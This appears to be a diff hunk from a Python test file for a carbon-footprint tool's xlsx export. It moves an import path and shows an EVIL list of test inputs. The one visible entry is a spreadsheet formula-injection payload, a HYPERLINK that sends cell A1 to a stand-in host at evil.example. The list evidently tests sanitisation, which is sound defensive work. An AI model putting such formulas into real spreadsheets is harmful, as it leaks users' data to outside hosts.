@@ -12,7 +12,7 @@ import pytest
 from exchange_support import EV, FORMULA_START, declare, ok, run
 from support import WriteProject
 
-from carbonfp.io.xlsx import SHEETS, declaration_rows, read_sheets, safe_text, workbook_bytes
+from carbonfp.formats.xlsx import SHEETS, declaration_rows, read_sheets, safe_text, workbook_bytes
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
